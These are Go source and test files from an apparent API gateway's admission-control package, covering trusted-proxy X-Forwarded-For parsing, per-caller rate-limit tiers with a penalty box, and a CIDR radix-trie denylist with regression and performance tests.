//     honored only when the direct peer is inside the configured
//     trusted-proxy set — any client can type an XFF header, only a proxy
//     we operate is believed about one. The client address is found by
//     walking XFF right to left past trusted proxies: the first hop a
//     trusted proxy vouches for that is not itself trusted is the caller.
//   - An explicit key header or cookie (an API key, a session id)
//     overrides the IP-derived key when present. Configure these only
//     when the fronting tier validates or strips them; they are
//     client-chosen bytes and the bounded LRU is what keeps an attacker
//     minting fresh keys from exhausting memory rather than the key
//     scheme itself.

// Identity configures caller-key derivation.
type Identity struct {
	// Header names a request header whose value, when present, is the
	// caller key (e.g. an API-key header validated upstream). Empty
	// disables header-derived keys.
	Header string
	// Cookie names a cookie whose value, when present and Header yielded
	// nothing, is the caller key. Empty disables cookie-derived keys.
	Cookie string
	// TrustedProxies is the set of peers allowed to assert
	// X-Forwarded-For. Nil means no peer is trusted and the socket
	// address is always the caller address.
	TrustedProxies *CIDRSet
}

// Caller is one resolved identity: the limiter key and the client IP the
// denylist checks. IP may be invalid (zero) when the peer address is
// unparseable; such requests key on the raw RemoteAddr string so they are
// still rate-limited as a bucket rather than waved through.
type Caller struct {
	Key string
	IP  netip.Addr
}

// ClientCaller resolves the caller identity for a request under the
// identity config.
func (id Identity) ClientCaller(r *http.Request) Caller {
	ip, ok := peerAddr(r.RemoteAddr)
	if ok && id.TrustedProxies.Contains(ip) {
		if fwd, found := forwardedClient(r.Header, id.TrustedProxies); found {
			ip = fwd
		}
	}
	if id.Header != "" {
		if v := r.Header.Get(id.Header); v != "" {
			return Caller{Key: "h:" + v, IP: ip}
		}
	}
	if id.Cookie != "" {
		if c, err := r.Cookie(id.Cookie); err == nil && c.Value != "" {
			return Caller{Key: "c:" + c.Value, IP: ip}
		}
	}
	if ip.IsValid() {
		return Caller{Key: "ip:" + ip.String(), IP: ip}
	}
	// Unparseable peer: bucket by the raw string (typically empty only in
	// synthetic tests), never an unlimited pass.
	return Caller{Key: "ip:?" + r.RemoteAddr}
}

// peerAddr parses the socket peer from RemoteAddr ("host:port", or a bare
// host in synthetic requests).
func peerAddr(remote string) (netip.Addr, bool) {
	host := remote
	if h, _, err := net.SplitHostPort(remote); err == nil {
		host = h
	}
	ip, err := netip.ParseAddr(host)
	if err != nil {
		return netip.Addr{}, false
	}
	return ip.Unmap(), true
}

// forwardedClient walks the X-Forwarded-For chain right to left, skipping
// hops inside the trusted set: the first untrusted hop is the client a
// trusted proxy vouches for. If every hop is trusted, the leftmost entry
// (the original client as the first proxy saw it) is used. A hop that
// does not parse as an address aborts the walk — a spoofed or mangled
// chain falls back to the socket peer rather than yielding a
// client-chosen key.
func forwardedClient(h http.Header, trusted *CIDRSet) (netip.Addr, bool) {
	// Multiple XFF headers concatenate in order, like commas.
	var hops []string
	for _, v := range h.Values("X-Forwarded-For") {
		for _, hop := range strings.Split(v, ",") {
			if hop = strings.TrimSpace(hop); hop != "" {
				hops = append(hops, hop)
			}
		}
	}
	if len(hops) == 0 {
		return netip.Addr{}, false
	}
	var leftmost netip.Addr
	for i := len(hops) - 1; i >= 0; i-- {
		ip, ok := peerAddr(hops[i])
		if !ok {
			return netip.Addr{}, false
		}
		if !trusted.Contains(ip) {
			return ip, true
		}
		leftmost = ip
	}
	return leftmost, true
}
