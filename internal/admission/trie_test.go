package admission

import (
	"net/netip"
	"sort"
	"strings"
	"testing"
	"time"

	"psigene/internal/resilience"
)

func mustSet(t *testing.T, cidrs ...string) *CIDRSet {
	t.Helper()
	var ps []netip.Prefix
	for _, c := range cidrs {
		p, err := parseEntry(c)
		if err != nil {
			t.Fatalf("parseEntry(%q): %v", c, err)
		}
		ps = append(ps, p)
	}
	s, err := BuildCIDRSet(ps)
	if err != nil {
		t.Fatalf("BuildCIDRSet: %v", err)
	}
	return s
}

func TestCIDRSetMembership(t *testing.T) {
	s := mustSet(t,
		"10.0.0.0/8", "192.168.1.0/24", "203.0.113.7", // v4: net, subnet, host
		"2001:db8::/32", "fe80::1", // v6
	)
	cases := []struct {
		ip   string
		want bool
	}{
		{"10.0.0.1", true},
		{"10.255.255.255", true},
		{"11.0.0.0", false},
		{"9.255.255.255", false},
		{"192.168.1.200", true},
		{"192.168.2.1", false},
		{"203.0.113.7", true},
		{"203.0.113.8", false},
		{"2001:db8:dead:beef::1", true},
		{"2001:db9::1", false},
		{"fe80::1", true},
		{"fe80::2", false},
		// IPv4-mapped v6 must land in the v4 subtrie.
		{"::ffff:10.1.2.3", true},
		{"::ffff:11.1.2.3", false},
	}
	for _, c := range cases {
		if got := s.Contains(netip.MustParseAddr(c.ip)); got != c.want {
			t.Errorf("Contains(%s) = %v, want %v", c.ip, got, c.want)
		}
	}
	if s.Contains(netip.Addr{}) {
		t.Error("invalid address must never match")
	}
}

func TestCIDRSetNestedAndDuplicate(t *testing.T) {
	// A /16 absorbing a nested /24, inserted in both orders, plus an exact
	// duplicate: membership must be identical regardless.
	for _, order := range [][]string{
		{"172.16.0.0/16", "172.16.5.0/24", "172.16.5.0/24"},
		{"172.16.5.0/24", "172.16.5.0/24", "172.16.0.0/16"},
	} {
		s := mustSet(t, order...)
		for ip, want := range map[string]bool{
			"172.16.5.9":   true,
			"172.16.200.1": true,
			"172.17.0.1":   false,
		} {
			if got := s.Contains(netip.MustParseAddr(ip)); got != want {
				t.Errorf("order %v: Contains(%s) = %v, want %v", order, ip, got, want)
			}
		}
	}
}

// TestCIDRSetMappedPrefix is the regression test for the IPv4-mapped
// CIDR bug: ::ffff:10.0.0.0/104 used to be unmapped to a 4-byte address
// while keeping its 104-bit length, producing an invalid prefix that was
// inserted as a match-all node in the IPv6 root — one denylist line
// 403'ing every IPv6 client (or, as a trusted-proxy entry, trusting every
// IPv6 peer) while blocking nothing in the intended range.
func TestCIDRSetMappedPrefix(t *testing.T) {
	s := mustSet(t, "::ffff:10.0.0.0/104") // denotes 10.0.0.0/8
	for ip, want := range map[string]bool{
		"10.1.2.3":        true,
		"::ffff:10.1.2.3": true, // lookups unmap, so the mapped form matches too
		"11.0.0.1":        false,
		"9.255.255.255":   false,
		// The bug made these all match: the v6 root must stay untouched.
		"::":          false,
		"2001:db8::1": false,
		"fe80::1":     false,
	} {
		if got := s.Contains(netip.MustParseAddr(ip)); got != want {
			t.Errorf("Contains(%s) = %v, want %v", ip, got, want)
		}
	}
	if err := probeCIDRSet(s); err != nil {
		t.Fatalf("probe of a translated mapped prefix: %v", err)
	}

	// The full mapping prefix denotes all of v4.
	all4 := mustSet(t, "::ffff:0:0/96")
	if !all4.Contains(netip.MustParseAddr("203.0.113.1")) {
		t.Error("::ffff:0:0/96 must cover every v4 address")
	}
	if all4.Contains(netip.MustParseAddr("2001:db8::1")) {
		t.Error("::ffff:0:0/96 must not cover native v6 addresses")
	}

	// A mapped prefix shorter than /96 spans space no unmapped lookup can
	// reach; silently matching nothing is worse than failing the build.
	if _, err := BuildCIDRSet([]netip.Prefix{netip.MustParsePrefix("::ffff:10.0.0.0/95")}); err == nil {
		t.Fatal("mapped prefix shorter than /96 must be rejected")
	}
	if _, err := ParseDenylist(strings.NewReader("::ffff:10.0.0.0/104\n")); err != nil {
		t.Fatalf("mapped CIDR denylist line: %v", err)
	}
}

func TestCIDRSetEmptyAndNil(t *testing.T) {
	var nilSet *CIDRSet
	if nilSet.Contains(netip.MustParseAddr("1.2.3.4")) {
		t.Error("nil set must contain nothing")
	}
	if nilSet.Len() != 0 {
		t.Error("nil set must have length 0")
	}
	empty, err := BuildCIDRSet(nil)
	if err != nil {
		t.Fatalf("empty build: %v", err)
	}
	if empty.Contains(netip.MustParseAddr("1.2.3.4")) {
		t.Error("empty set must contain nothing")
	}
}

func TestCIDRSetDefaultRoute(t *testing.T) {
	s := mustSet(t, "0.0.0.0/0")
	if !s.Contains(netip.MustParseAddr("203.0.113.1")) {
		t.Error("0.0.0.0/0 must match every v4 address")
	}
	if s.Contains(netip.MustParseAddr("2001:db8::1")) {
		t.Error("0.0.0.0/0 must not match v6 addresses")
	}
}

// TestCIDRSetAgainstReference cross-checks the trie against netip's own
// Contains over a deterministic prefix soup and probe set — every
// disagreement is a trie bug by definition.
func TestCIDRSetAgainstReference(t *testing.T) {
	rng := resilience.NewSplitMix64(7)
	var prefixes []netip.Prefix
	for i := 0; i < 4000; i++ {
		v := rng.Next()
		bits := 8 + int(v%25) // /8 .. /32
		a := netip.AddrFrom4([4]byte{byte(v >> 32), byte(v >> 40), byte(v >> 48), byte(v >> 56)})
		prefixes = append(prefixes, netip.PrefixFrom(a, bits).Masked())
	}
	for i := 0; i < 1000; i++ {
		v := rng.Next()
		var b [16]byte
		for j := range b {
			b[j] = byte(v >> (uint(j%8) * 8))
			if j == 7 {
				v = rng.Next()
			}
		}
		bits := 16 + int(v%113) // /16 .. /128
		prefixes = append(prefixes, netip.PrefixFrom(netip.AddrFrom16(b), bits).Masked())
	}
	s, err := BuildCIDRSet(prefixes)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	reference := func(ip netip.Addr) bool {
		ip = ip.Unmap()
		for _, p := range prefixes {
			if p.Contains(ip) {
				return true
			}
		}
		return false
	}
	checked, hits := 0, 0
	for i := 0; i < 3000; i++ {
		v := rng.Next()
		var ip netip.Addr
		if i%2 == 0 {
			ip = netip.AddrFrom4([4]byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)})
		} else {
			var b [16]byte
			w := rng.Next()
			for j := 0; j < 8; j++ {
				b[j] = byte(v >> (uint(j) * 8))
				b[8+j] = byte(w >> (uint(j) * 8))
			}
			ip = netip.AddrFrom16(b)
		}
		want := reference(ip)
		if got := s.Contains(ip); got != want {
			t.Fatalf("Contains(%s) = %v, reference says %v", ip, got, want)
		}
		checked++
		if want {
			hits++
		}
	}
	if hits == 0 || hits == checked {
		t.Fatalf("degenerate probe mix: %d/%d hits", hits, checked)
	}
}

// syntheticPrefixes generates n deterministic v4 CIDRs in the /12../28
// range — the million-entry denylist of the acceptance criteria. All
// entries keep the address-space top bit clear, so probes with it set are
// guaranteed misses and a probe mix can exercise both lookup outcomes.
func syntheticPrefixes(n int) []netip.Prefix {
	rng := resilience.NewSplitMix64(0x5eed)
	out := make([]netip.Prefix, 0, n)
	for len(out) < n {
		v := rng.Next()
		bits := 12 + int(v%17)
		a := netip.AddrFrom4([4]byte{byte(v>>32) &^ 0x80, byte(v >> 40), byte(v >> 48), byte(v >> 56)})
		out = append(out, netip.PrefixFrom(a, bits).Masked())
	}
	return out
}

// TestAbuseChaosDenylistMillionEntries builds a trie from one million
// synthetic CIDRs and verifies O(address-bits) behaviour: every inserted
// prefix's base address matches, spot misses agree with a linear
// reference, and the median lookup stays under a microsecond (timing
// asserted only without the race detector; always logged).
func TestAbuseChaosDenylistMillionEntries(t *testing.T) {
	const n = 1_000_000
	prefixes := syntheticPrefixes(n)
	start := time.Now()
	s, err := BuildCIDRSet(prefixes)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	buildTime := time.Since(start)
	if s.Len() != n {
		t.Fatalf("Len() = %d, want %d", s.Len(), n)
	}

	// Every inserted prefix must match its own base address.
	for i := 0; i < n; i += 997 {
		if !s.Contains(prefixes[i].Addr()) {
			t.Fatalf("entry %d (%v): base address not contained", i, prefixes[i])
		}
	}

	// Median lookup latency over batches: per-op timing is dominated by
	// clock reads, so time batches of lookups and take the median batch.
	// Half the probes stay in the populated (top bit clear) half of the
	// address space, half are guaranteed misses, so the median covers both
	// lookup outcomes.
	probes := make([]netip.Addr, 4096)
	rng := resilience.NewSplitMix64(0x100c)
	for i := range probes {
		v := rng.Next()
		first := byte(v)
		if i%2 == 0 {
			first &^= 0x80
		} else {
			first |= 0x80
		}
		probes[i] = netip.AddrFrom4([4]byte{first, byte(v >> 8), byte(v >> 16), byte(v >> 24)})
	}
	const batches, perBatch = 256, 512
	times := make([]float64, batches)
	sink := 0
	for b := 0; b < batches; b++ {
		t0 := time.Now()
		for i := 0; i < perBatch; i++ {
			if s.Contains(probes[(b*perBatch+i)%len(probes)]) {
				sink++
			}
		}
		times[b] = float64(time.Since(t0).Nanoseconds()) / perBatch
	}
	sort.Float64s(times)
	median := times[batches/2]
	total := batches * perBatch
	t.Logf("1M-entry denylist: build %v, %d arena nodes, median lookup %.0fns (hits %d/%d)",
		buildTime, len(s.nodes), median, sink, total)
	if sink == 0 || sink == total {
		t.Fatalf("degenerate probe mix: %d/%d hits", sink, total)
	}
	if !raceEnabled && median > 1000 {
		t.Fatalf("median lookup %.0fns exceeds the sub-microsecond budget", median)
	}
}

func TestParseDenylist(t *testing.T) {
	input := `
# production denylist
10.0.0.0/8      # rfc1918
203.0.113.7     bad host? no -- trailing junk is a comment only after #
`
	if _, err := ParseDenylist(strings.NewReader(input)); err == nil {
		t.Fatal("trailing junk after an address must fail the parse")
	}
	good := "10.0.0.0/8\n203.0.113.7 # host\n\n2001:db8::/32\n"
	s, err := ParseDenylist(strings.NewReader(good))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	if s.Len() != 3 {
		t.Fatalf("Len() = %d, want 3", s.Len())
	}
	if !s.Contains(netip.MustParseAddr("203.0.113.7")) {
		t.Fatal("host entry not matched")
	}

	// A malformed line reports its number without dumping the content
	// (the admin surface logs it; clients never see it either way).
	_, err = ParseDenylist(strings.NewReader("10.0.0.0/8\nnot-a-cidr/99\n"))
	if err == nil {
		t.Fatal("malformed line must fail")
	}
	if !strings.Contains(err.Error(), "line 2") {
		t.Fatalf("error %q does not name the line", err)
	}
}

func TestProbeCIDRSet(t *testing.T) {
	if err := probeCIDRSet(mustSet(t, "10.0.0.0/8")); err != nil {
		t.Fatalf("probe of a healthy trie: %v", err)
	}
	// A structurally broken trie (child index out of range at a branch
	// node every v4 lookup crosses) must fail the probe instead of
	// panicking through to the serving path.
	broken := mustSet(t, "0.0.0.0/1", "128.0.0.0/1")
	broken.nodes[broken.root4].child[0] = 1 << 30
	broken.nodes[broken.root4].child[1] = 1 << 30
	if err := probeCIDRSet(broken); err == nil {
		t.Fatal("probe must reject a trie whose lookup panics")
	}
}

// TestProbeCIDRSetCatchesCorruptBits: the structural walk must reject
// nodes whose prefix length escapes the family's address width — the
// exact shape the mapped-prefix bug produced (a bits=-1 node acting as an
// IPv6 match-all), which lookups answer without panicking and an
// address-probe alone would read as a legal "deny everything" set.
func TestProbeCIDRSetCatchesCorruptBits(t *testing.T) {
	matchAll := &CIDRSet{
		nodes: []trieNode{{bits: -1, terminal: true, child: [2]int32{-1, -1}}},
		root4: -1, root6: 0, n: 1,
	}
	// Demonstrate the severity: the corrupt node silently matches any v6.
	if !matchAll.Contains(netip.MustParseAddr("2001:db8::1")) {
		t.Fatal("corrupt node should be a v6 match-all (test premise)")
	}
	if err := probeCIDRSet(matchAll); err == nil {
		t.Fatal("probe must reject a node with bits < 0")
	}

	tooLong := mustSet(t, "10.0.0.0/8")
	tooLong.nodes[tooLong.root4].bits = 104 // v4 nodes cap at /32
	if err := probeCIDRSet(tooLong); err == nil {
		t.Fatal("probe must reject a v4 node with bits > 32")
	}
}

func TestBuildCIDRSetRejectsInvalid(t *testing.T) {
	if _, err := BuildCIDRSet([]netip.Prefix{{}}); err == nil {
		t.Fatal("zero prefix must be rejected")
	}
}

func BenchmarkCIDRSetContains(b *testing.B) {
	prefixes := syntheticPrefixes(1_000_000)
	s, err := BuildCIDRSet(prefixes)
	if err != nil {
		b.Fatal(err)
	}
	rng := resilience.NewSplitMix64(9)
	probes := make([]netip.Addr, 1024)
	for i := range probes {
		v := rng.Next()
		probes[i] = netip.AddrFrom4([4]byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)})
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Contains(probes[i%len(probes)])
	}
}
