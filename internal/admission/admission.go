// Package admission is per-client admission control for the serving
// gateway: keyed rate limits, a penalty box, and a CIDR denylist, checked
// before a request may compete for the gateway's global in-flight
// semaphore. The global semaphore protects the process from aggregate
// overload; this package protects the millions of legitimate callers
// behind it from each other — one abusive client saturating the
// semaphore starves everyone, one client exceeding its own tiers here
// affects only itself.
//
// The pieces:
//
//   - Identity (identity.go): the caller key — a configured header or
//     cookie value, else the client IP, with X-Forwarded-For honored
//     only behind a trusted proxy so the key cannot be spoofed by
//     typing a header.
//   - Keyed tiers (lru.go + resilience.Window): per-caller fixed-window
//     limits at second, minute and day granularity, states held in a
//     sharded bounded LRU so unbounded distinct callers cannot exhaust
//     memory.
//   - Penalty box: a caller that keeps exceeding its tiers is blocked
//     outright for escalating, jittered, deterministic durations
//     (resilience.Penalty), and recovers cleanly after the block.
//   - Denylist (trie.go): a binary radix trie of CIDR entries answering
//     membership in O(address-bits), hot-reloaded atomically through the
//     validate-probe-swap idiom.
//
// Every decision is a pure function of (config, request sequence,
// injected clock): no wall-clock reads, no shared randomness — the
// package sits in psigenelint's kernel set, and the abuse-chaos suite
// replays bit-identical shed/block/recover sequences from a seed.
// Degradation is explicit and graceful: limiter rejections answer 429
// with Retry-After (a per-caller signal, distinct from the gateway's
// global 503 shed), denylist hits answer 403, and the gateway treats a
// panic anywhere in here as "admission unavailable, fail open to the
// global semaphore" rather than dropping traffic.
package admission

import (
	"net/http"
	"sync/atomic"
	"time"

	"psigene/internal/resilience"
)

// Config configures a Controller. The zero value disables every tier and
// the denylist (Check always allows).
type Config struct {
	// QPS, QPM and QPD are the per-caller request ceilings for the
	// 1-second, 1-minute and 1-day fixed windows; 0 disables a tier.
	QPS, QPM, QPD int
	// StrikeThreshold is how many tier rejections (since the last strike
	// or recovery) escalate the caller into the penalty box. Default 3.
	StrikeThreshold int
	// QPSStrikes, QPMStrikes and QPDStrikes override StrikeThreshold for
	// the tier that triggered the rejection; 0 inherits StrikeThreshold.
	// A day-tier rejection is a much stronger abuse signal than a
	// second-tier burst, so deployments can escalate it faster (QPDStrikes
	// 1) without hair-triggering bursty-but-honest callers on qps. The
	// rejection tally itself stays shared across tiers; only the
	// escalation bar moves per tier.
	QPSStrikes, QPMStrikes, QPDStrikes int
	// BlockSeconds is the base penalty-box duration; each strike doubles
	// it (jittered, capped at MaxBlockSeconds). Default 10.
	BlockSeconds int
	// MaxBlockSeconds caps the escalation. Default 3600.
	MaxBlockSeconds int
	// MaxCallers bounds the limiter-state LRU across all shards.
	// Default 65536.
	MaxCallers int
	// Shards is the lock-domain count for the caller table, rounded up to
	// a power of two. Default 16.
	Shards int
	// Seed feeds the shard hash and the penalty jitter; same seed, same
	// decisions. Default 1.
	Seed int64
	// Identity derives caller keys; see Identity.
	Identity Identity
	// Denylist is the initial denied-address set; nil means none. Swap
	// later with SetDenylist/ReloadDenylistFile.
	Denylist *CIDRSet
	// Now is the clock every decision reads; injectable so the chaos
	// suite owns time. Default time.Now.
	Now func() time.Time
	// KeyFunc, when non-nil, replaces Identity-based key derivation
	// entirely (tests and exotic deployments).
	KeyFunc func(*http.Request) Caller
}

func (c *Config) fill() {
	if c.StrikeThreshold <= 0 {
		c.StrikeThreshold = 3
	}
	if c.QPSStrikes <= 0 {
		c.QPSStrikes = c.StrikeThreshold
	}
	if c.QPMStrikes <= 0 {
		c.QPMStrikes = c.StrikeThreshold
	}
	if c.QPDStrikes <= 0 {
		c.QPDStrikes = c.StrikeThreshold
	}
	if c.BlockSeconds <= 0 {
		c.BlockSeconds = 10
	}
	if c.MaxBlockSeconds <= 0 {
		c.MaxBlockSeconds = 3600
	}
	if c.MaxBlockSeconds < c.BlockSeconds {
		c.MaxBlockSeconds = c.BlockSeconds
	}
	if c.MaxCallers <= 0 {
		c.MaxCallers = 1 << 16
	}
	if c.Shards <= 0 {
		c.Shards = 16
	}
	if c.Seed == 0 {
		c.Seed = 1
	}
	if c.Now == nil {
		//lint:ignore walltime the clock is injected: every limiter decision reads cfg.Now, the abuse-chaos suite replaces it with a deterministic counter, and this default only binds the real clock for production deployments
		c.Now = time.Now
	}
}

// Verdict is an admission decision class.
type Verdict uint8

const (
	// Allow admits the request to the gateway's global admission.
	Allow Verdict = iota
	// Denied is a denylist hit: the address is banned outright (403).
	Denied
	// Limited is a tier rejection: the caller exceeded qps/qpm/qpd and
	// should retry after the window resets (429 + Retry-After).
	Limited
	// Boxed is a penalty-box rejection: repeated tier abuse bought the
	// caller an escalating block (429 + Retry-After of the remainder).
	Boxed
)

// String names the verdict for logs and counters.
func (v Verdict) String() string {
	switch v {
	case Denied:
		return "denied"
	case Limited:
		return "limited"
	case Boxed:
		return "boxed"
	}
	return "allow"
}

// Decision is one admission check's outcome.
type Decision struct {
	Verdict Verdict
	// Key is the caller key the decision applied to.
	Key string
	// Tier names the exceeded tier ("qps", "qpm", "qpd") for Limited and
	// Boxed decisions.
	Tier string
	// RetryAfterSeconds is the client-facing Retry-After value for
	// Limited/Boxed decisions: at least 1, rounded up.
	RetryAfterSeconds int
	// Strikes is the caller's penalty-box entry count so far.
	Strikes int
}

// tierWidths are the fixed-window widths in nanoseconds.
const (
	widthSecond = int64(time.Second)
	widthMinute = int64(time.Minute)
	widthDay    = 24 * int64(time.Hour)
)

// Controller is the admission-control engine. Create with New; Check is
// safe for concurrent use.
type Controller struct {
	cfg      Config
	callers  *callerTable
	denylist atomic.Pointer[CIDRSet]
	// denyGen counts successful denylist swaps, surfacing on statz so
	// operators can verify a reload took effect.
	denyGen atomic.Uint64
	// denyProbeFailures counts denylist sets rejected by the probe. A
	// nonzero value with generation 0 means the deployment is serving with
	// NO denylist while the operator configured one — the counter is the
	// signal that makes that state observable instead of silent.
	denyProbeFailures atomic.Int64

	checked, allowed, denied   atomic.Int64
	limited, boxed, recoveries atomic.Int64
}

// New builds a Controller. An all-zero Config is legal and admits
// everything (useful as a wiring placeholder); the gateway treats a nil
// *Controller as "admission disabled".
func New(cfg Config) *Controller {
	cfg.fill()
	c := &Controller{cfg: cfg}
	c.callers = newCallerTable(cfg.Shards, cfg.MaxCallers)
	c.callers.seed = cfg.Seed
	if cfg.Denylist != nil {
		if err := c.SetDenylist(cfg.Denylist); err != nil {
			// An initial set that cannot survive the probe is dropped; the
			// controller still limits, and the drop is recorded on the
			// probe-failure counter so statz/metrics expose the gap. Callers
			// that need hard startup failure (cmd/psigened does) pass no
			// initial Denylist and call SetDenylist themselves.
			c.denylist.Store(nil)
		}
	}
	return c
}

// SetDenylist installs a new denied-address set after probing it — the
// same validate-probe-swap idiom as the gateway's model reload, so a
// defective trie never becomes the serving denylist. nil clears the set.
func (c *Controller) SetDenylist(s *CIDRSet) error {
	if s == nil {
		c.denylist.Store(nil)
		c.denyGen.Add(1)
		return nil
	}
	if err := probeCIDRSet(s); err != nil {
		c.denyProbeFailures.Add(1)
		return err
	}
	c.denylist.Store(s)
	c.denyGen.Add(1)
	return nil
}

// ReloadDenylistFile parses path and swaps the result in atomically. Any
// malformed line rejects the whole file and the previous denylist keeps
// serving.
func (c *Controller) ReloadDenylistFile(path string) error {
	s, err := LoadDenylistFile(path)
	if err != nil {
		return err
	}
	return c.SetDenylist(s)
}

// Denylist returns the serving denylist (nil when none) and its
// generation.
func (c *Controller) Denylist() (*CIDRSet, uint64) {
	return c.denylist.Load(), c.denyGen.Load()
}

// Check runs the full admission decision for a request: identity, then
// denylist, then the keyed tiers and penalty box. It never blocks beyond
// one shard mutex held for limiter arithmetic.
func (c *Controller) Check(r *http.Request) Decision {
	var caller Caller
	if c.cfg.KeyFunc != nil {
		caller = c.cfg.KeyFunc(r)
	} else {
		caller = c.cfg.Identity.ClientCaller(r)
	}
	return c.CheckCaller(caller)
}

// CheckCaller runs the decision for an already-resolved identity.
func (c *Controller) CheckCaller(caller Caller) Decision {
	c.checked.Add(1)
	if caller.IP.IsValid() && c.denylist.Load().Contains(caller.IP) {
		c.denied.Add(1)
		return Decision{Verdict: Denied, Key: caller.Key}
	}
	if c.cfg.QPS <= 0 && c.cfg.QPM <= 0 && c.cfg.QPD <= 0 {
		c.allowed.Add(1)
		return Decision{Verdict: Allow, Key: caller.Key}
	}
	now := c.cfg.Now().UnixNano()
	d := Decision{Verdict: Allow, Key: caller.Key}
	c.callers.withState(caller.Key, now, func(st *callerState) {
		d = c.step(st, caller.Key, now)
	})
	switch d.Verdict {
	case Allow:
		c.allowed.Add(1)
	case Limited:
		c.limited.Add(1)
	case Boxed:
		c.boxed.Add(1)
	}
	return d
}

// step is the per-caller state machine: penalty box first, then the
// tiers in ascending window order. Runs under the caller's shard lock.
func (c *Controller) step(st *callerState, key string, now int64) Decision {
	if st.blockedUntil != 0 {
		if now < st.blockedUntil {
			return Decision{
				Verdict: Boxed, Key: key, Tier: "penalty",
				RetryAfterSeconds: ceilSeconds(st.blockedUntil - now),
				Strikes:           st.strikes,
			}
		}
		// Block served: recover. Windows and the rejection tally reset so
		// the caller starts clean; strikes persist so a relapse escalates.
		st.sec, st.min, st.day = resilience.Window{}, resilience.Window{}, resilience.Window{}
		st.rejections = 0
		st.blockedUntil = 0
		c.recoveries.Add(1)
	}
	tiers := [3]struct {
		name     string
		limit    int
		width    int64
		window   *resilience.Window
		strikeAt int
	}{
		{"qps", c.cfg.QPS, widthSecond, &st.sec, c.cfg.QPSStrikes},
		{"qpm", c.cfg.QPM, widthMinute, &st.min, c.cfg.QPMStrikes},
		{"qpd", c.cfg.QPD, widthDay, &st.day, c.cfg.QPDStrikes},
	}
	for _, tier := range tiers {
		if tier.window.Allow(now, int64(tier.limit), tier.width) {
			continue
		}
		st.rejections++
		if st.rejections >= tier.strikeAt {
			st.strikes++
			st.rejections = 0
			block := resilience.Penalty(
				resilience.HashKey(c.cfg.Seed, key), st.strikes,
				time.Duration(c.cfg.BlockSeconds)*time.Second,
				time.Duration(c.cfg.MaxBlockSeconds)*time.Second,
			)
			st.blockedUntil = now + int64(block)
			return Decision{
				Verdict: Boxed, Key: key, Tier: tier.name,
				RetryAfterSeconds: ceilSeconds(int64(block)),
				Strikes:           st.strikes,
			}
		}
		return Decision{
			Verdict: Limited, Key: key, Tier: tier.name,
			RetryAfterSeconds: ceilSeconds(resilience.WindowReset(now, tier.width)),
			Strikes:           st.strikes,
		}
	}
	return Decision{Verdict: Allow, Key: key, Strikes: st.strikes}
}

// ceilSeconds converts nanoseconds to whole seconds, rounding up with a
// floor of 1 — Retry-After: 0 invites an immediate retry.
func ceilSeconds(ns int64) int {
	if ns <= 0 {
		return 1
	}
	s := (ns + int64(time.Second) - 1) / int64(time.Second)
	return int(s)
}

// Stats is the controller's observable state for /-/statz and metrics.
type Stats struct {
	Checked    int64 `json:"checked"`
	Allowed    int64 `json:"allowed"`
	Denied     int64 `json:"denied"`
	Limited    int64 `json:"limited"`
	Boxed      int64 `json:"boxed"`
	Recoveries int64 `json:"recoveries"`
	// TrackedCallers and Evictions describe the limiter-state LRU.
	TrackedCallers int64 `json:"trackedCallers"`
	Evictions      int64 `json:"evictions"`
	// DenylistEntries and DenylistGeneration describe the serving trie.
	DenylistEntries    int64  `json:"denylistEntries"`
	DenylistGeneration uint64 `json:"denylistGeneration"`
	// DenylistProbeFailures counts candidate sets the validate-probe-swap
	// gate rejected; the old set (possibly none) kept serving each time.
	DenylistProbeFailures int64 `json:"denylistProbeFailures"`
}

// Stats assembles the counters.
func (c *Controller) Stats() Stats {
	tracked, evictions := c.callers.stats()
	s := Stats{
		Checked:               c.checked.Load(),
		Allowed:               c.allowed.Load(),
		Denied:                c.denied.Load(),
		Limited:               c.limited.Load(),
		Boxed:                 c.boxed.Load(),
		Recoveries:            c.recoveries.Load(),
		TrackedCallers:        int64(tracked),
		Evictions:             evictions,
		DenylistGeneration:    c.denyGen.Load(),
		DenylistProbeFailures: c.denyProbeFailures.Load(),
	}
	s.DenylistEntries = int64(c.denylist.Load().Len())
	return s
}
