package admission

import (
	"net/http"
	"net/http/httptest"
	"testing"
)

func request(remote string, hdr map[string]string) *http.Request {
	r := httptest.NewRequest(http.MethodGet, "/", nil)
	r.RemoteAddr = remote
	for k, v := range hdr {
		r.Header.Set(k, v)
	}
	return r
}

// TestXFFSpoofingFromUntrustedPeer is the limiter-key spoofing
// regression: a client that is NOT a trusted proxy types an
// X-Forwarded-For header, and the derived key must stay the socket peer —
// otherwise every request could mint a fresh limiter key and the
// per-caller tiers would be decorative.
func TestXFFSpoofingFromUntrustedPeer(t *testing.T) {
	id := Identity{} // no trusted proxies at all
	r := request("203.0.113.50:4444", map[string]string{
		"X-Forwarded-For": "10.99.99.99",
	})
	c := id.ClientCaller(r)
	if c.Key != "ip:203.0.113.50" {
		t.Fatalf("untrusted peer asserting XFF got key %q, want the socket peer", c.Key)
	}
	if c.IP.String() != "203.0.113.50" {
		t.Fatalf("client IP %v, want the socket peer", c.IP)
	}

	// Same request with the peer inside the trusted set: now the XFF hop
	// is believed.
	id.TrustedProxies = mustSet(t, "203.0.113.0/24")
	c = id.ClientCaller(r)
	if c.Key != "ip:10.99.99.99" {
		t.Fatalf("trusted peer's XFF ignored: key %q", c.Key)
	}
}

func TestXFFWalksPastTrustedProxies(t *testing.T) {
	// Chain: client 198.51.100.9 → proxy .2 → proxy .1 (the peer). Both
	// proxies are trusted; the walk must stop at the first untrusted hop.
	id := Identity{TrustedProxies: mustSet(t, "203.0.113.1", "203.0.113.2")}
	r := request("203.0.113.1:9999", map[string]string{
		"X-Forwarded-For": "198.51.100.9, 203.0.113.2",
	})
	if c := id.ClientCaller(r); c.Key != "ip:198.51.100.9" {
		t.Fatalf("key %q, want the first untrusted hop", c.Key)
	}

	// A spoofed prefix ahead of the real client changes nothing: the walk
	// from the right still stops at the first untrusted hop.
	r = request("203.0.113.1:9999", map[string]string{
		"X-Forwarded-For": "6.6.6.6, 198.51.100.9, 203.0.113.2",
	})
	if c := id.ClientCaller(r); c.Key != "ip:198.51.100.9" {
		t.Fatalf("key %q; spoofed left-hand entries must not shift the caller", c.Key)
	}
}

